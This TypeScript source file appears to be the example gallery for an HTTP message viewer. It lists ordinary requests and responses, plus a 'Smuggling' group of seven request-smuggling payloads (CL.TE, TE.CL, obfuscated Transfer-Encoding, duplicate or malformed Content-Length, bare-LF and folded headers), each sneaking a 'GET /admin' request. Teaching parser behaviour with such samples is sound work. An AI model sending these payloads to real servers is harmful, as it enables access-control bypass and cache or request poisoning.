// The gallery: messages that show something, each octet written by hand.

const PICTURE =
  'iVBORw0KGgoAAAANSUhEUgAAABgAAAAYCAMAAADXqc3KAAAADFBMVEX9/PkAcrLmnwAbHySrtaxwAAAAYklEQVR42oXQQQ7AIAhEUQfvf+e2URgYjHVj81+NkTF+l5kBONQFYpYBrTtAewBq/76LMJMIvDAgDsx35SO5U27ge4D/eQfwcnmUzEefVJ+bx5DHQ4HVTtEe0rpL79sOta8HURYB+bUylTwAAAAASUVORK5CYII='

export interface Example {
  title: string
  group: 'Messages' | 'Streams' | 'Smuggling'
  /** Latin-1, one character an octet. */
  text: string
}

export const EXAMPLES: Example[] = [
  {
    title: 'A plain GET',
    group: 'Messages',
    text: lines(
      'GET /hello?name=you HTTP/1.1',
      'Host: example.org',
      'Accept: text/html, */*;q=0.8',
      'Accept-Language: en',
      'User-Agent: curl/8.5.0',
      '',
      '',
    ),
  },
  {
    title: 'A POST form',
    group: 'Messages',
    text: withBody(
      ['POST /form HTTP/1.1', 'Host: example.org', 'Content-Type: application/x-www-form-urlencoded'],
      'name=J%C3%B6rg&colour=blue+green&agree=on',
    ),
  },
  {
    title: 'A form with a file',
    group: 'Messages',
    text: withBody(
      ['POST /upload HTTP/1.1', 'Host: example.org', 'Content-Type: multipart/form-data; boundary=one-two'],
      lines(
        '--one-two',
        'Content-Disposition: form-data; name="title"',
        '',
        'Octets',
        '--one-two',
        'Content-Disposition: form-data; name="file"; filename="a.txt"',
        'Content-Type: text/plain',
        '',
        'one\ntwo\n',
        '--one-two--',
        '',
      ),
    ),
  },
  {
    title: 'JSON in a response',
    group: 'Messages',
    text: withBody(
      ['HTTP/1.1 200 OK', 'Date: Tue, 01 Sep 2026 10:00:00 GMT', 'Content-Type: application/json'],
      '{"octets":[72,84,84,80],"exact":true,"peers":{"count":7}}',
    ),
  },
  {
    title: 'An image response',
    group: 'Messages',
    text: withBody(
      ['HTTP/1.1 200 OK', 'Content-Type: image/png', 'Cache-Control: max-age=3600'],
      atob(PICTURE),
    ),
  },
  {
    title: 'Chunked, with trailers',
    group: 'Messages',
    text: lines(
      'HTTP/1.1 200 OK',
      'Content-Type: text/plain; charset=utf-8',
      'Transfer-Encoding: chunked',
      'Trailer: Digest',
      '',
      '7',
      'Octets,',
      'a;note=two',
      ' one by on',
      '2',
      'e\n',
      '0',
      'Digest: sha-256=4REjxQ4yrqUVicfSKYNO',
      '',
      '',
    ),
  },
  {
    title: 'A secret in a request',
    group: 'Messages',
    text: lines(
      'GET /account HTTP/1.1',
      'Host: example.org',
      'Authorization: Basic dXNlcjpwYXNzd29yZA==',
      'Cookie: session=8f14e45f',
      '',
      '',
    ),
  },
  {
    title: 'Keep-alive: three requests',
    group: 'Streams',
    text: lines(
      'GET /a HTTP/1.1',
      'Host: example.org',
      '',
      'GET /b HTTP/1.1',
      'Host: example.org',
      '',
      'GET /c HTTP/1.1',
      'Host: example.org',
      'Connection: close',
      '',
      '',
    ),
  },
  {
    title: 'A request and its answer',
    group: 'Streams',
    text: lines(
      'HEAD /page HTTP/1.1',
      'Host: example.org',
      '',
      'HTTP/1.1 200 OK',
      'Content-Length: 1024',
      'Content-Type: text/html; charset=utf-8',
      '',
      'GET /missing HTTP/1.1',
      'Host: example.org',
      '',
      'HTTP/1.1 404 Not Found',
      'Content-Length: 0',
      '',
      '',
    ),
  },
  {
    title: 'A switch to WebSocket',
    group: 'Streams',
    text: `${lines('GET /chat HTTP/1.1', 'Host: example.org', 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13', 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==', '', 'HTTP/1.1 101 Switching Protocols', 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Accept: s3pPLMBiTxaQ9kYGzzhZRbK+xOo=', '', '')}\x81\x05hello`,
  },
  {
    title: 'CL.TE: length against chunks',
    group: 'Smuggling',
    text: lines(
      'POST / HTTP/1.1',
      'Host: example.org',
      'Content-Length: 30',
      'Transfer-Encoding: chunked',
      '',
      '0',
      '',
      'GET /admin HTTP/1.1',
      'X: x',
    ),
  },
  {
    title: 'TE.CL: chunks against length',
    group: 'Smuggling',
    text: lines(
      'POST / HTTP/1.1',
      'Host: example.org',
      'Content-Length: 4',
      'Transfer-Encoding: chunked',
      '',
      '2d',
      'GET /admin HTTP/1.1',
      'Host: example.org',
      'X: 12',
      '',
      '0',
      '',
      '',
    ),
  },
  {
    title: 'TE.TE: a coding half hidden',
    group: 'Smuggling',
    text: lines(
      'POST / HTTP/1.1',
      'Host: example.org',
      'Transfer-Encoding: xchunked',
      'Content-Length: 47',
      '',
      '0',
      '',
      'GET /admin HTTP/1.1',
      'Host: example.org',
      '',
      '',
    ),
  },
  {
    title: 'Two lengths',
    group: 'Smuggling',
    text: lines(
      'POST / HTTP/1.1',
      'Host: example.org',
      'Content-Length: 0',
      'Content-Length: 42',
      '',
      'GET /admin HTTP/1.1',
      'Host: example.org',
      '',
      '',
    ),
  },
  {
    title: 'A space before the colon',
    group: 'Smuggling',
    text: lines(
      'POST / HTTP/1.1',
      'Host: example.org',
      'Content-Length : 42',
      '',
      'GET /admin HTTP/1.1',
      'Host: example.org',
      '',
      '',
    ),
  },
  {
    title: 'An LF alone hides a field',
    group: 'Smuggling',
    text: lines(
      'POST / HTTP/1.1',
      'Host: example.org',
      'X: x\nContent-Length: 42',
      '',
      'GET /admin HTTP/1.1',
      'Host: example.org',
      '',
      '',
    ),
  },
  {
    title: 'A folded Transfer-Encoding',
    group: 'Smuggling',
    text: lines(
      'POST / HTTP/1.1',
      'Host: example.org',
      'Transfer-Encoding:',
      ' chunked',
      '',
      '0',
      '',
      'GET /admin HTTP/1.1',
      'Host: example.org',
      '',
      '',
    ),
  },
]

/** The octets of an example. */
export function octetsOfExample({ text }: Example): Uint8Array<ArrayBuffer> {
  return Uint8Array.from(text, (character) => character.charCodeAt(0))
}

function lines(...all: string[]): string {
  return all.join('\r\n')
}

function withBody(head: string[], body: string): string {
  return lines(...head, `Content-Length: ${body.length}`, '', body)
}
